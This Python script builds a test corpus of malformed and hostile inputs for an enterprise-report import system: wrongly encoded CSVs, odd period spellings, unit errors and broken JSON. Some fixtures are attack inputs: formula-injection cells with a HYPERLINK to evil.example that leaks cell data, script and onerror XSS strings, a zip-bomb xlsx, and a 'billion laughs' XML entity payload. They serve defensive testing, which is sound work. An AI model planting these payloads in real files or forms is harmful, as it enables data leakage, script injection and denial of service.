"""Writes the bad-input corpus of this folder: `python tests/data/bad/build.py`.

The files are committed; this script says exactly how each was made, so a reviewer can
rebuild and diff them. The two large inputs (a 50 MB CSV and a 60 MB JSON body) are not
committed: tests/test_bad_inputs.py makes them at run time with `big_csv` / `big_json`.
What each file must produce is in tests/test_bad_inputs.py (CASES) and README.md here.

Firms referred to (tests create them): A and B in Suzhou Industrial Park (the officer's
district), K in Kunshan. A has a stored 2025Q2 report of 1,000 万元 output.
"""

from __future__ import annotations

import codecs
import io
import json
import re
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from enterprises.uscc import check_character  # noqa: E402


def uscc(n: int) -> str:
    first17 = f"91320594{n:08d}0"
    return first17 + check_character(first17)


A, B, K = uscc(1), uscc(2), uscc(3)
HEADER_ZH = ["统一社会信用代码", "报告期", "工业总产值", "营业收入", "研发投入", "从业人员"]
HEADER = [
    "uscc / 统一社会信用代码",
    "period / 报告期",
    "output_value / 工业总产值",
    "operating_revenue / 营业收入",
]
ENTERPRISE_HEADER = [
    "uscc / 统一社会信用代码",
    "name_zh / 企业名称",
    "district / 所属区/县级市",
    "size_class / 企业规模",
    "status / 状态",
    "cluster / 所属集群",
    "primary_sector / 主营领域",
]
MEMBERSHIP_HEADER = [
    *ENTERPRISE_HEADER,
    "in_cluster_from / 纳入集群日期",
    "in_cluster_until / 退出集群日期",
]
NANO = "苏州市纳米新材料产业创新集群"


def csv_text(rows, sep=",") -> str:
    def cell(value):
        text = str(value)
        return f'"{text.replace(chr(34), chr(34) * 2)}"' if re.search(r'[",\n]', text) else text

    return "\r\n".join(sep.join(cell(v) for v in row) for row in rows) + "\r\n"


def write_csv(name, rows, *, encoding="utf-8", sep=",", bom=False):
    data = csv_text(rows, sep).encode(encoding)
    if bom:
        data = codecs.BOM_UTF8 + data
    (HERE / name).write_bytes(data)


def workbook(rows, merges=()):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    book.properties.created = book.properties.modified = datetime(2025, 1, 1)
    buffer = io.BytesIO()
    book.save(buffer)
    return rewrite_sheet(buffer.getvalue(), lambda xml: xml)


def rewrite_sheet(content: bytes, change) -> bytes:
    """The workbook with its first sheet's XML passed through `change`."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the save time
                data = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2025-01-01T00:00:00Z", data
                )
            # A fixed time stamp, so that a rebuild gives the same bytes.
            entry = zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0))
            target.writestr(entry, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def build() -> None:
    # --- CSV encodings and number spellings -------------------------------------------------
    write_csv("gbk.csv", [HEADER_ZH, [A, "2025Q3", "1234.5", "1000", "", "120"]], encoding="gbk")
    write_csv(
        "utf16-tab.csv",
        [HEADER, [A, "2025Q3", "1234.5", "1000"]],
        encoding="utf-16",
        sep="\t",
    )
    write_csv(
        "fullwidth.csv",
        [HEADER, [A, "２０２５Ｑ３", "１，２３４．５", "１０００"]],
        bom=True,
    )
    write_csv(
        "period-spellings.csv",
        [
            HEADER,
            [A, "2025年三季度", "1234.5", "1000"],
            [B, "2025-Q3", "800", "700"],
            [A, "25Q4", "1300", "1100"],
            [B, "2025年第4季度", "900", "800"],
        ],
    )
    write_csv("month-period.csv", [HEADER, [A, "2025年9月", "1234.5", "1000"]])
    write_csv(
        "empty-rows.csv",
        [HEADER, ["", "", "", ""], [A, "2025Q3", "1234.5", "1000"], [], ["", "", "", ""]],
    )
    write_csv(
        "duplicate-rows.csv",
        [HEADER, [A, "2025Q3", "1234.5", "1000"], [A, "2025Q3", "1234.5", "1000"]],
    )
    write_csv("uscc-lowercase.csv", [HEADER, [f" {A.lower()} ", "2025Q3", "1234.5", "1000"]])
    wrong = A[:17] + ("0" if A[17] != "0" else "1")
    write_csv("uscc-check-character.csv", [HEADER, [wrong, "2025Q3", "1234.5", "1000"]])
    write_csv("negative.csv", [HEADER, [A, "2025Q3", "-1234.5", "1000"]])
    write_csv("unit-mistake.csv", [HEADER, [A, "2025Q3", "12345000", "1000"]])
    write_csv("scientific.csv", [HEADER, [A, "2025Q3", "1.23457E+11", "1000"]])
    write_csv("text-in-number.csv", [HEADER, [A, "2025Q3", "约1234", "1000"]])
    write_csv("other-district.csv", [HEADER, [K, "2025Q3", "1234.5", "1000"]])
    write_csv(
        "formula-injection.csv",
        [
            HEADER,
            ['=HYPERLINK("http://evil.example/?"&A1,"click")', "2025Q3", "1", "1"],
            [A, "2025Q3", "=1+2", "@SUM(1)"],
        ],
    )
    write_csv(
        "wrong-header.csv",
        [["统一社会信用代码", "报告期", "产值", "营业收入"], [A, "2025Q3", "1234.5", "1000"]],
    )
    write_csv(
        "missing-period-column.csv",
        [["统一社会信用代码", "工业总产值"], [A, "1234.5"]],
    )
    write_csv("no-header.csv", [[A, "2025Q3", "1234.5", "1000"]])
    (HERE / "binary.csv").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
    )
    (HERE / "text-as-xlsx.xlsx").write_bytes(csv_text([HEADER, [A, "2025Q3", "1", "1"]]).encode())

    # --- Excel -----------------------------------------------------------------------------------
    (HERE / "units-in-cells.xlsx").write_bytes(
        workbook(
            [
                HEADER,
                [A, "2025Q3", "0.12345亿", "1,100万元"],
                [B, "2025Q3", "￥8,000,000元", "700"],
            ]
        )
    )
    (HERE / "excel-dates.xlsx").write_bytes(
        workbook([HEADER, [A, datetime(2025, 9, 30), 1234.5, 1000]])
    )
    (HERE / "date-in-number.xlsx").write_bytes(
        workbook([HEADER, [A, "2025Q3", datetime(2025, 9, 30), 1000]])
    )
    (HERE / "title-rows.xlsx").write_bytes(
        workbook(
            [
                ["苏州工业园区纳米新材料企业 2025年第三季度报表"],
                ["单位：万元"],
                HEADER,
                [A, "2025Q3", 1234.5, 1000],
                [B, "2025Q3", "八百", 700],
            ]
        )
    )
    (HERE / "merged-period.xlsx").write_bytes(
        workbook(
            [
                ["period / 报告期", "uscc / 统一社会信用代码", "output_value / 工业总产值"],
                ["2025Q3", A, 1234.5],
                [None, B, 800],
            ],
            merges=["A2:A3"],
        )
    )
    with_formulas = workbook([HEADER, [A, "2025Q3", "=1000+234.5", "=500*2"]])
    (HERE / "formulas-unsaved.xlsx").write_bytes(with_formulas)
    (HERE / "formulas-saved.xlsx").write_bytes(
        rewrite_sheet(
            with_formulas,
            lambda xml: (
                xml.replace(b"<f>1000+234.5</f><v></v>", b"<f>1000+234.5</f><v>1234.5</v>")
                .replace(b"<f>1000+234.5</f><v />", b"<f>1000+234.5</f><v>1234.5</v>")
                .replace(b"<f>500*2</f><v></v>", b"<f>500*2</f><v>1000</v>")
                .replace(b"<f>500*2</f><v />", b"<f>500*2</f><v>1000</v>")
            ),
        )
    )
    # A zip bomb: 300 MB of sheet XML (blank padding inside the sheet data) in a ~300 KB file.
    padding = b" " * (300 * 2**20)
    (HERE / "zip-bomb.xlsx").write_bytes(
        rewrite_sheet(
            workbook([HEADER, [A, "2025Q3", 1, 1]]),
            lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding, 1),
        )
    )
    # Entity expansion ("billion laughs") in the sheet XML: defusedxml refuses it.
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), (b"&" + chr(97 + i).encode() + b";") * 10)
            for i in range(8)
        )
        + b"]>"
    )
    (HERE / "xml-entities.xlsx").write_bytes(
        rewrite_sheet(
            workbook([HEADER, [A, "2025Q3", "&i;", 1]]),
            lambda xml: laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", xml),
        )
    )

    # --- enterprise files --------------------------------------------------------------------
    new_1, new_2, new_3 = uscc(11), uscc(12), uscc(13)
    write_csv(
        "enterprises-gbk.csv",
        [
            ENTERPRISE_HEADER,
            [
                new_1.lower(),
                "纳米测试（苏州）有限公司",
                "苏州工业园区",
                "small",
                "active",
                NANO,
                "1.02",
            ],
        ],
        encoding="gbk",
    )
    write_csv(
        "enterprises-html-name.csv",
        [
            ENTERPRISE_HEADER,
            [
                new_2,
                "<script>alert(1)</script>纳米公司",
                "苏州工业园区",
                "small",
                "active",
                "nano",
                "1.02",
            ],
        ],
        bom=True,
    )
    write_csv(
        "enterprises-formula-name.csv",
        [
            ENTERPRISE_HEADER,
            [
                new_3,
                '=HYPERLINK("http://evil.example","点击")',
                "苏州工业园区",
                "small",
                "active",
                "nano",
                "1.02",
            ],
        ],
        bom=True,
    )

    (HERE / "enterprises-title-rows.xlsx").write_bytes(
        workbook(
            [
                ["苏州工业园区新增纳米企业"],
                ENTERPRISE_HEADER,
                [],
                [uscc(14), "纳米甲（苏州）有限公司", "苏州工业园区", "small", "active", "", "1.02"],
                [uscc(15), "纳米乙<b>有限公司", "苏州工业园区", "small", "active", "", "1.02"],
            ]
        )
    )
    sip = ["苏州工业园区", "small", "active"]
    write_csv(
        "enterprises-membership-errors.csv",
        [
            MEMBERSHIP_HEADER,
            [uscc(16), "集群未知公司", *sip, "纳米集群", "1.02", "", ""],
            [uscc(17), "领域过宽公司", *sip, "nano", "纳米电子信息材料", "", ""],
            [uscc(18), "日期有误公司", *sip, "nano", "1.02", "2025-13-01", ""],
            [uscc(19), "先出后进公司", *sip, "nano", "1.02", "2025-06-01", "2024-06-01"],
            [uscc(20), "没有领域公司", *sip, "nano", "", "2025-06-01", ""],
        ],
        bom=True,
    )
    write_csv(
        "enterprises-two-clusters.csv",
        [
            MEMBERSHIP_HEADER,
            [uscc(22), "双集群（苏州）有限公司", *sip, NANO, "光电子材料", "2023-03-01", ""],
            [uscc(22), "双集群（苏州）有限公司", *sip, "photonics", "光模块", "2024-07-01", ""],
        ],
        bom=True,
    )

    # --- API payloads (POST /api/reports/bulk/ unless the name says otherwise) -------------------
    api = HERE / "api"
    api.mkdir(exist_ok=True)
    payloads = {
        "bulk-units-in-strings.json": {
            "unit": "wan",
            "rows": [{"uscc": A, "period": "2025Q3", "output_value": "1,234.5万元"}],
        },
        "bulk-period-spelling.json": {
            "unit": "wan",
            "rows": [{"uscc": A, "period": "2025年第三季度", "output_value": "1234.5"}],
        },
        "bulk-month-period.json": {
            "unit": "wan",
            "rows": [{"uscc": A, "period": "2025年9月", "output_value": "1234.5"}],
        },
        "bulk-unit-mistake.json": {
            "unit": "yuan",
            "rows": [{"uscc": A, "period": "2025Q3", "output_value": "123450000000"}],
        },
        "bulk-markup-uscc.json": {
            "unit": "wan",
            "rows": [
                {"uscc": "<script>alert(1)</script>", "period": "2025Q3", "output_value": "1"}
            ],
        },
        "bulk-negative.json": {
            "unit": "wan",
            "rows": [{"uscc": A, "period": "2025Q3", "output_value": "-5"}],
        },
        "bulk-huge-number.json": {
            "unit": "wan",
            "rows": [{"uscc": A, "period": "2025Q3", "output_value": "1e400"}],
        },
        "bulk-wrong-types.json": {
            "unit": "wan",
            "rows": [{"uscc": 91320594, "period": ["2025Q3"], "employees": "many"}],
        },
        "bulk-nested.json": {"unit": "wan", "rows": [[[[[[[[[[{"uscc": A}]]]]]]]]]]},
        "bulk-second-row-bad.json": {
            "unit": "wan",
            "rows": [
                {"uscc": A, "period": "2025Q3", "output_value": "1234.5"},
                {"uscc": B, "period": "2025Q3", "output_value": "-1"},
            ],
        },
        "enterprise-markup-name.json": {
            "uscc": uscc(21),
            "name_zh": "<img src=x onerror=alert(1)>",
            "district": None,
            "size_class": "small",
        },
    }
    for name, body in payloads.items():
        (api / name).write_text(
            json.dumps(body, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )
    (api / "bulk-not-json.json").write_text('{"unit": "wan", "rows": [', encoding="utf-8")


if __name__ == "__main__":
    build()
    print("\n".join(sorted(p.name for p in HERE.rglob("*") if p.is_file())))
